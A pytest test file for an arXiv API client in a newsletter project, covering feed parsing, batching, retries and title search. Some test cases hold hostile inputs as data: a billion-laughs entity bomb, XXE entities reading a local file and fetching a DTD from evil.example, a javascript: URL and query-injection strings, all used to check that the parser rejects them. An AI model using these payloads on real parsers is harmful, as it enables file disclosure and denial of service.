"""Records of arXiv's query API: asked for politely, read strictly."""

import httpx
import pytest

from digests.sources import arxiv
from newsletter.http import FetchFailed
from tests.fakes import FakePaper, atom

NAMESPACES = 'xmlns="http://www.w3.org/2005/Atom" xmlns:arxiv="http://arxiv.org/schemas/atom"'
PAPERS = [FakePaper(f"2411.{n:05d}", f"Paper number {n}") for n in range(1, 131)]
pytestmark = pytest.mark.django_db


def feed(entries, head='<?xml version="1.0" encoding="UTF-8"?>'):
    return f"{head}<feed {NAMESPACES}>{entries}</feed>"


def entry(identifier="http://arxiv.org/abs/2411.10958v2", title="A title", more=""):
    return f"<entry><id>{identifier}</id><title>{title}</title><summary>Words.</summary>{more}</entry>"


def ids_asked(request):
    return request.url.params["id_list"].split(",")


# ---- reading


def test_a_record_is_read_whole():
    [record] = arxiv.parse(
        feed(
            entry(
                title="Two\n  lines &amp; more",
                more="""<updated>2024-11-20T00:00:00Z</updated><published> 2024-11-17T04:35:49Z </published>
                <author><name>Ada Example</name><arxiv:affiliation>Nowhere</arxiv:affiliation></author>
                <author><name> </name></author><author><name>Bo Sample </name></author>
                <arxiv:primary_category term="cs.LG"/><category term="cs.CL"/><category term="cs.LG"/>
                <category term="I.2.7"/><category term="68T07"/><category term="hep-th"/>""",
            )
        )
    )
    assert record == arxiv.Record(
        arxiv_id="2411.10958",
        version=2,
        title="Two\n  lines & more",
        abstract="Words.",
        authors=("Ada Example", "Bo Sample"),
        categories=("cs.LG", "cs.CL", "hep-th"),
        published_at="2024-11-17T04:35:49Z",
    )


@pytest.mark.parametrize(
    "comment", ["This paper has been withdrawn by the authors", "Withdrawn due to an error in (3)"]
)
def test_a_withdrawn_paper_is_known_by_its_comment(comment):
    records = arxiv.parse(feed(entry(more=f"<arxiv:comment>{comment}</arxiv:comment>") + entry()))
    assert [record.is_withdrawn for record in records] == [True, False]


@pytest.mark.parametrize(
    "stranger",
    [
        entry("http://arxiv.org/abs/../../x"),
        entry("https://arxiv.org@evil.example/abs/2411.00001"),
        entry("javascript:alert(1)"),
        entry(""),
        entry(title=""),
        entry(title=" \n "),
        "<entry/>",
        "<entry xmlns='other'><id>http://arxiv.org/abs/2411.00002</id><title>x</title></entry>",
    ],
)
def test_an_entry_that_is_no_paper_is_passed_over(stranger):
    assert [record.arxiv_id for record in arxiv.parse(feed(stranger + entry()))] == ["2411.10958"]


def test_an_error_that_comes_as_an_entry_never_becomes_a_paper():
    error = entry("http://arxiv.org/api/errors#incorrect_id_format_for_x", "Error")
    with pytest.raises(FetchFailed, match="arXiv refused the question: Words"):
        arxiv.parse(feed(entry() + error))


def test_what_an_error_says_is_told_in_one_clean_line():
    error = "<entry><id>http://arxiv.org/api/errors#x</id><summary>bad\n\u202eid " + "x" * 999 + "</summary></entry>"
    with pytest.raises(FetchFailed) as caught:
        arxiv.parse(feed(error))
    assert str(caught.value).startswith("arXiv refused the question: bad id x")
    assert len(str(caught.value)) < 200


LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))


@pytest.mark.parametrize(
    "text",
    [
        "",
        "not xml",
        "<!DOCTYPE html><html><body>Error</body></html>",
        f"<html {NAMESPACES}/>",
        "<feed/>",
        '<rss version="2.0"><channel/></rss>',
        feed(entry())[:-40],
        feed(entry(title="bad \x03 character")),
        feed(entry(title="\ud800")),
        feed(entry(title="nul \0")),
        feed(entry(title="&#xD800;")),
        feed(entry(title="&undefined;")),
        feed(entry(title="&l9;"), f'<!DOCTYPE feed [<!ENTITY l0 "ha">{LAUGHS}]>'),
        feed(entry(title="&x;"), '<!DOCTYPE feed [<!ENTITY x SYSTEM "file:///etc/hostname">]>'),
        feed(entry(title="&x;"), '<!DOCTYPE feed [<!ENTITY % p SYSTEM "http://evil.example/x.dtd">%p;]>'),
        "<a>" * 50_000,
    ],
    ids=lambda text: text[:40],
)
def test_anything_but_an_atom_feed_is_a_failure_in_a_sentence(text):
    with pytest.raises(FetchFailed, match=r"^arXiv sent something that is not .*\.$"):
        arxiv.parse(text)


def test_entries_nested_without_end_are_read_no_deeper_than_a_title():
    assert [r.title for r in arxiv.parse(feed(entry(title="A <b>" + "<i>" * 20_000 + "</i>" * 20_000 + "</b>")))] == [
        "A "
    ]


@pytest.mark.parametrize("encoding", ["shift_jis", "utf-99", "utf-16", "iso-8859-1", "hex"])
def test_text_that_is_decoded_already_is_not_decoded_again(encoding):
    [record] = arxiv.parse(feed(entry(title="Größe 크기"), f'<?xml version="1.0" encoding="{encoding}"?>'))
    assert record.title == "Größe 크기"


# ---- asking by id


def test_records_are_asked_for_in_one_call(sources, settings):
    settings.ARXIV_API_URL = "https://export.example/api/query"
    sources.add(*PAPERS[:2])
    records = arxiv.fetch_records(["2411.00001", "2411.00002"])
    assert {key: record.title for key, record in records.items()} == {
        "2411.00001": "Paper number 1",
        "2411.00002": "Paper number 2",
    }
    [call] = sources.calls
    assert str(call.url).startswith("https://export.example/api/query?")
    assert (ids_asked(call), call.url.params["max_results"]) == (["2411.00001", "2411.00002"], "2")


def test_many_papers_are_asked_for_a_hundred_at_a_time(sources):
    sources.add(*PAPERS)
    assert len(arxiv.fetch_records([paper.id for paper in PAPERS])) == 130
    assert [len(ids_asked(call)) for call in sources.calls] == [100, 30]


def test_no_papers_are_not_asked_for(sources):
    assert arxiv.fetch_records([]) == {}
    assert sources.calls == []


def test_what_is_left_out_is_asked_for_once_more(sources):
    sources.add(*PAPERS[:3])
    sources.broken["arxiv"] = lambda request: (
        httpx.Response(200, text=atom([PAPERS[0]])) if len(sources.calls) == 1 else sources.arxiv(request)
    )
    assert set(arxiv.fetch_records(["2411.00001", "2411.00002", "2411.00003"])) == {p.id for p in PAPERS[:3]}
    assert [ids_asked(call) for call in sources.calls][1:] == [["2411.00002", "2411.00003"]]


def test_an_empty_feed_is_not_taken_for_no_papers_at_once(sources):
    sources.add(*PAPERS[:2])
    sources.broken["arxiv"] = lambda request: (
        httpx.Response(200, text=feed("")) if len(sources.calls) == 1 else sources.arxiv(request)
    )
    assert len(arxiv.fetch_records(["2411.00001", "2411.00002"])) == 2


def test_an_unknown_paper_is_simply_not_there(sources):
    sources.add(PAPERS[0])
    assert set(arxiv.fetch_records(["2411.00001", "2411.99999"])) == {"2411.00001"}
    assert len(sources.calls) == 2


def test_what_came_is_kept_when_the_second_asking_fails(sources):
    sources.broken["arxiv"] = lambda request: (
        httpx.Response(200, text=atom([PAPERS[0]])) if len(sources.calls) == 1 else httpx.Response(503)
    )
    assert set(arxiv.fetch_records(["2411.00001", "2411.00002"])) == {"2411.00001"}


def test_of_a_record_given_twice_the_first_counts_and_it_is_logged(sources, caplog):
    twice = [FakePaper("2411.00001", "First"), FakePaper("2411.00001", "Second", version=2)]
    sources.broken["arxiv"] = lambda _: httpx.Response(200, text=atom(twice))
    assert arxiv.fetch_records(["2411.00001"])["2411.00001"].title == "First"
    assert "2411.00001 twice" in caplog.text


def test_records_nobody_asked_for_are_left_out(sources):
    sources.broken["arxiv"] = lambda _: httpx.Response(200, text=atom(PAPERS[:3]))
    assert set(arxiv.fetch_records(["2411.00002"])) == {"2411.00002"}


@pytest.mark.parametrize("answer", [httpx.Response(503), httpx.Response(200, text="<html>Busy</html>")])
def test_a_dead_arxiv_is_a_failure(sources, answer):
    sources.broken["arxiv"] = lambda _: answer
    with pytest.raises(FetchFailed):
        arxiv.fetch_records(["2411.00001"])


# ---- asking by title


def test_papers_are_found_by_their_titles_in_whatever_spelling(sources):
    sources.add(
        FakePaper("2411.00001", "What is Fair?  Defining Fairness"),
        FakePaper("2411.00002", "What is Fair? Defining Fairness, Again"),
    )
    found = arxiv.find_titles(["What Is Fair? Defining Fairness", "Nowhere to be found"])
    assert {title: record.arxiv_id for title, record in found.items()} == {
        "What Is Fair? Defining Fairness": "2411.00001"
    }
    assert len(sources.calls) == 1


def test_a_title_cannot_change_the_question(sources):
    arxiv.find_titles(['x" OR all:"electron', "a ANDNOT (b)", "c:d*"])
    assert sources.calls[0].url.params["search_query"] == 'ti:"x OR all electron" OR ti:"a ANDNOT b" OR ti:"c d"'


def test_every_title_is_asked_for_however_many(sources):
    papers = [FakePaper(f"2411.{n:05d}", f"Subject {n} alone") for n in range(1, 31)]
    sources.add(*papers)
    assert len(arxiv.find_titles([paper.title for paper in papers])) == 30
    assert len(sources.calls) == 2


def test_a_title_without_end_is_asked_for_by_its_beginning(sources):
    assert arxiv.find_titles(["word " * 100_000]) == {}
    assert len(str(sources.calls[0].url)) < 2_000


@pytest.mark.parametrize("titles", [[], ["***"], ["\u200b", ""]])
def test_titles_without_words_are_not_asked_for(sources, titles):
    assert arxiv.find_titles(titles) == {}
    assert sources.calls == []


def test_a_title_without_words_finds_no_other_such_title(sources):
    sources.add(FakePaper("2411.00001", "!!!"), FakePaper("2411.00002", "A paper"))
    sources.broken["arxiv"] = lambda _: httpx.Response(200, text=atom(list(sources.papers.values())))
    assert set(arxiv.find_titles(["???", "A paper"])) == {"A paper"}


def test_of_two_papers_with_one_title_arxivs_first_counts(sources):
    sources.add(FakePaper("2411.00002", "Same"), FakePaper("2411.00001", "Same"))
    assert arxiv.find_titles(["same"])["same"].arxiv_id == "2411.00002"


def test_a_feed_that_claims_papers_and_holds_none_is_a_failure():
    claim = '<totalResults xmlns="http://a9.com/-/spec/opensearch/1.1/">%s</totalResults>'
    with pytest.raises(FetchFailed, match="found papers and sent none"):
        arxiv.parse(feed(claim % 14))
    assert arxiv.parse(feed(claim % 0)) == []


@pytest.mark.parametrize("title", ["0", "  0 ", "False"])
def test_a_title_that_looks_like_nothing_is_a_title(title):
    [record] = arxiv.parse(atom([FakePaper("2411.00001", title)]))
    assert record.title == title


def test_papers_of_the_old_kind_are_read_and_asked_for(sources):
    old = FakePaper("hep-th/9901001", "An old paper")
    sources.papers[old.id] = old
    assert arxiv.fetch_records([old.id])[old.id].arxiv_id == old.id
    assert sources.calls[0].url.params["id_list"] == "hep-th/9901001"
